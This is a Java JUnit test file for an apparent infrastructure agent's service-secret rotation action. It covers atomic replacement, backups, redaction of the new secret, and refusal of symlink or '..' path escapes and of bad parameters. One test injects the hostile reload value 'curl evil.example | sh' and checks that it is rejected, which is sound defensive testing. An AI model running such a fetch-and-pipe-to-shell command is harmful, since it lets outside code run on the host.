package io.firebreak.agent.credential;

import static io.firebreak.agent.credential.FakeTools.assertNoSecret;
import static org.assertj.core.api.Assertions.assertThat;

import io.firebreak.agent.action.ActionResult;
import io.firebreak.agent.credential.CommandRunner.Completed;
import io.firebreak.agent.testing.Commands;
import io.firebreak.proto.agent.v1.Command;
import io.firebreak.proto.agent.v1.Outcome;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFileAttributes;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** kind=service-secret on temporary directories, with the reload command faked. */
class RotateServiceSecretTest {
  private static final String OLD = "old-secret-value";

  @TempDir Path dir;
  private Path secrets;
  private Path secret;
  private Path outside;
  private FakeTools tools;
  private List<Path> secretDirectories;

  @BeforeEach
  void setUp() throws Exception {
    secrets = Files.createDirectory(dir.resolve("secrets")).toRealPath();
    secret = secrets.resolve("app.key");
    Files.writeString(secret, OLD);
    Files.setPosixFilePermissions(secret, PosixFilePermissions.fromString("rw-r-----"));
    outside = Files.createDirectory(dir.resolve("other")).resolve("shadow");
    Files.writeString(outside, OLD);
    tools = new FakeTools(dir, dir);
    secretDirectories = List.of(secrets);
  }

  private ActionResult rotate(Map<String, String> parameters) throws Exception {
    CredentialSettings settings =
        CredentialSettings.defaults()
            .with(Set.of(), secretDirectories, Map.of("app", "systemctl reload app"));
    Command command =
        Commands.command("host-1", "p1", RotateCredential.TYPE, System.currentTimeMillis())
            .putParameters("kind", "service-secret")
            .putAllParameters(parameters)
            .build();
    return new RotateCredential(settings, tools.accounts(), tools)
        .execute(command, FakeTools.context(dir.resolve("state")));
  }

  @Test
  void execute_replacesTheSecretAtomicallyKeepsModeAndOwnerAndRunsTheConfiguredReload()
      throws Exception {
    PosixFileAttributes before = Files.readAttributes(secret, PosixFileAttributes.class);
    Object inodeBefore = Files.getAttribute(secret, "unix:ino");

    ActionResult result = rotate(Map.of("path", secret.toString(), "reload", "app"));

    assertThat(result.outcome()).as(result.detail()).isEqualTo(Outcome.OUTCOME_SUCCEEDED);
    assertThat(result.detail())
        .isEqualTo("new secret in place at " + secret + "; reload 'app' succeeded in 7 ms");
    String value = Files.readString(secret);
    assertThat(value).isNotEqualTo(OLD).doesNotEndWith("\n");
    assertThat(Base64.getDecoder().decode(value)).hasSize(32);
    PosixFileAttributes after = Files.readAttributes(secret, PosixFileAttributes.class);
    assertThat(after.permissions()).isEqualTo(before.permissions());
    assertThat(after.owner()).isEqualTo(before.owner());
    assertThat(after.group()).isEqualTo(before.group());
    assertThat(Files.getAttribute(secret, "unix:ino")).isNotEqualTo(inodeBefore);
    assertThat(tools.commands).containsExactly(List.of("/bin/sh", "-c", "systemctl reload app"));
    assertThat(tools.reloadEnvironment).containsEntry("FIREBREAK_SECRET_FILE", secret.toString());
    assertThat(result.evidence())
        .containsEntry("path", secret.toString())
        .containsEntry("bytes", "32")
        .containsEntry("encoding", "base64")
        .containsEntry("size", String.valueOf(value.length()))
        .containsEntry("mode", "0640")
        .containsEntry("owner", before.owner().getName() + ":" + before.group().getName())
        .containsEntry("reload", "app")
        .containsEntry("reload.exit", "0")
        .containsEntry("reload.ms", "7");
    Path backup = Path.of(result.evidence().get("backup"));
    assertThat(Files.readString(backup)).isEqualTo(OLD);
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(backup)))
        .isEqualTo("rw-------");
    assertNoSecret(result, value);
    try (var files = Files.list(secrets)) {
      assertThat(files).containsExactly(secret);
    }
  }

  @Test
  void execute_withModeOwnerBytesAndHex_writesThatSecret() throws Exception {
    PosixFileAttributes before = Files.readAttributes(secret, PosixFileAttributes.class);
    String owner = before.owner().getName() + ":" + before.group().getName();

    ActionResult result =
        rotate(
            Map.of(
                "path",
                secret.toString(),
                "bytes",
                "48",
                "encoding",
                "hex",
                "mode",
                "0600",
                "owner",
                owner));

    assertThat(result.outcome()).as(result.detail()).isEqualTo(Outcome.OUTCOME_SUCCEEDED);
    assertThat(result.detail())
        .isEqualTo("new secret in place at " + secret + " (no reload requested)");
    assertThat(Files.readString(secret)).matches("[0-9a-f]{96}");
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(secret)))
        .isEqualTo("rw-------");
    assertThat(result.evidence()).containsEntry("mode", "0600").containsEntry("owner", owner);
    assertThat(tools.commands).isEmpty();
    assertNoSecret(result, Files.readString(secret));
  }

  @Test
  void execute_whenTheReloadFails_reportsFailedSaysTheNewSecretIsInPlaceAndWhereTheOldOneIs()
      throws Exception {
    tools.reloadResult = new Completed(1, "", "Job for app.service failed.\n", false, 40);
    tools.reloadEchoesSecret = true;

    ActionResult result = rotate(Map.of("path", secret.toString(), "reload", "app"));

    assertThat(result.outcome()).isEqualTo(Outcome.OUTCOME_FAILED);
    String value = Files.readString(secret);
    assertThat(value).isNotEqualTo(OLD);
    String backup = result.evidence().get("backup");
    assertThat(Files.readString(Path.of(backup))).isEqualTo(OLD);
    assertThat(result.detail())
        .startsWith("the new secret IS in place at " + secret + " (rotation cannot be undone")
        .contains(
            "reload 'app' failed (exit 1: loaded key [redacted] | Job for app.service failed.)")
        .contains("The old secret is kept in the root-only backup " + backup)
        .contains("copy the backup over " + secret);
    assertThat(result.evidence()).containsEntry("reload.exit", "1");
    assertNoSecret(result, value);
  }

  @Test
  void execute_whenTheReloadTimesOut_reportsFailedWithTheSecretInPlace() throws Exception {
    tools.reloadResult = new Completed(-1, "", "", true, 30_000);

    ActionResult result = rotate(Map.of("path", secret.toString(), "reload", "app"));

    assertThat(result.outcome()).isEqualTo(Outcome.OUTCOME_FAILED);
    assertThat(result.detail())
        .contains("the new secret IS in place")
        .contains("failed (killed after 30000 ms (timeout))");
    assertThat(result.evidence()).containsEntry("reload.exit", "timeout");
  }

  @Test
  void execute_withAPathOutsideTheSecretDirectories_refusesAndChangesNothing() throws Exception {
    ActionResult result = rotate(Map.of("path", outside.toString()));

    assertThat(result.outcome()).isEqualTo(Outcome.OUTCOME_FAILED);
    assertThat(result.detail())
        .isEqualTo(
            "nothing rotated: "
                + outside
                + " is outside the secret directories this agent may change: "
                + secrets);
    assertThat(Files.readString(outside)).isEqualTo(OLD);
  }

  @Test
  void execute_throughASymlinkThatLeavesTheSecretDirectory_refusesAndChangesNothing()
      throws Exception {
    Path link = Files.createSymbolicLink(secrets.resolve("escape.key"), outside);

    ActionResult result = rotate(Map.of("path", link.toString()));

    assertThat(result.outcome()).isEqualTo(Outcome.OUTCOME_FAILED);
    assertThat(result.detail())
        .contains(link + " (which resolves to " + outside.toRealPath() + ") is outside");
    assertThat(Files.readString(outside)).isEqualTo(OLD);
    assertThat(Files.isSymbolicLink(link)).isTrue();
  }

  @Test
  void execute_throughADirectorySymlinkOrDotDot_refusesAndChangesNothing() throws Exception {
    Files.createSymbolicLink(secrets.resolve("up"), outside.getParent());

    ActionResult viaLink = rotate(Map.of("path", secrets + "/up/shadow"));
    ActionResult viaDots = rotate(Map.of("path", secrets + "/../other/shadow"));

    assertThat(viaLink.detail()).contains("is outside the secret directories");
    assertThat(viaDots.detail()).contains("is outside the secret directories");
    assertThat(Files.readString(outside)).isEqualTo(OLD);
  }

  @Test
  void execute_withAReloadTheAgentDoesNotKnow_refusesBeforeAnythingChanges() throws Exception {
    ActionResult result =
        rotate(Map.of("path", secret.toString(), "reload", "curl evil.example | sh"));

    assertThat(result.outcome()).isEqualTo(Outcome.OUTCOME_FAILED);
    assertThat(result.detail())
        .isEqualTo(
            "nothing rotated: parameter reload names 'curl evil.example | sh', which this agent"
                + " has no --rotate-reload command for (app)");
    assertThat(Files.readString(secret)).isEqualTo(OLD);
    assertThat(tools.commands).isEmpty();
  }

  @Test
  void execute_withoutSecretDirectories_refuses() throws Exception {
    secretDirectories = List.of();

    ActionResult result = rotate(Map.of("path", secret.toString()));

    assertThat(result.outcome()).isEqualTo(Outcome.OUTCOME_FAILED);
    assertThat(result.detail())
        .contains("this agent has no secret directory (--rotate-secret-dir)");
    assertThat(Files.readString(secret)).isEqualTo(OLD);
  }

  @Test
  void execute_withBadParameters_refusesEachBeforeAnythingChanges() throws Exception {
    assertThat(rotate(Map.of("path", secret.toString(), "mode", "0666")).detail())
        .contains("parameter mode 0666 lets every user write the secret; refused");
    assertThat(rotate(Map.of("path", secret.toString(), "mode", "4755")).detail())
        .contains("parameter mode must be three octal digits");
    assertThat(rotate(Map.of("path", secret.toString(), "encoding", "rot13")).detail())
        .contains("parameter encoding must be base64, base64url or hex, got 'rot13'");
    assertThat(rotate(Map.of("path", secret.toString(), "bytes", "8")).detail())
        .contains("parameter bytes must be a number from 16 to 4096, got '8'");
    assertThat(rotate(Map.of("path", secret.toString(), "owner", "no-such-user-x")).detail())
        .contains("parameter owner: no user or group 'no-such-user-x' on this host");
    assertThat(rotate(Map.of("path", "relative/app.key")).detail())
        .contains("parameter path must be absolute");
    assertThat(rotate(Map.of("path", secrets + "/missing.key")).detail())
        .contains("does not exist (service-secret replaces an existing secret file)");
    assertThat(rotate(Map.of()).detail()).isEqualTo("nothing rotated: missing parameter 'path'");
    assertThat(Files.readString(secret)).isEqualTo(OLD);
    assertThat(dir.resolve("state").resolve("backups")).doesNotExist();
  }

  @Test
  void execute_asRoot_keepsTheOwnerAndGroupOfAnotherUser() throws Exception {
    Assumptions.assumeTrue(
        "root".equals(System.getProperty("user.name")), "changing owners needs root");
    Files.setAttribute(secret, "unix:uid", 1001);
    Files.setAttribute(secret, "unix:gid", 1002);

    ActionResult result = rotate(Map.of("path", secret.toString()));

    assertThat(result.outcome()).as(result.detail()).isEqualTo(Outcome.OUTCOME_SUCCEEDED);
    assertThat(Files.getAttribute(secret, "unix:uid")).isEqualTo(1001);
    assertThat(Files.getAttribute(secret, "unix:gid")).isEqualTo(1002);
    assertThat(Files.getAttribute(Path.of(result.evidence().get("backup")), "unix:uid"))
        .isEqualTo(0);
  }
}
